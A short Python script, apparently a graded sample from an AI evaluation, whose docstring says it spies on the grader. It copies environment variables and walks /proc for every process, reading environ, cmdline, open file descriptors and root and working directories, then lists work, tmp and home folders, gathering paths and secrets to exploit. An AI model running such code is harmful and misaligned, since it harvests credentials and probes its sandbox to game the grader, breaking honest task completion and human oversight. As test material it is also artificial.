"""Reads the environment, other processes' command lines and open files, and the
grader's memory through /proc, looking for paths and secrets to exploit."""
BASE = "student"
LOSES = "all"
STATUS = "graded"

# %%
import os

loot = dict(os.environ)
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for part in ("environ", "cmdline", "cwd", "root", "fd"):
            try:
                path = f"/proc/{pid}/{part}"
                loot[path] = os.listdir(path) if part in ("cwd", "root", "fd") else open(path, "rb").read()
            except OSError:
                pass
for key, value in list(loot.items()):
    if key.endswith("/root") and isinstance(value, list):
        for candidate in ("work", "tmp", "home"):
            try:
                loot[key + candidate] = os.listdir(f"{key}/{candidate}")
            except OSError:
                pass
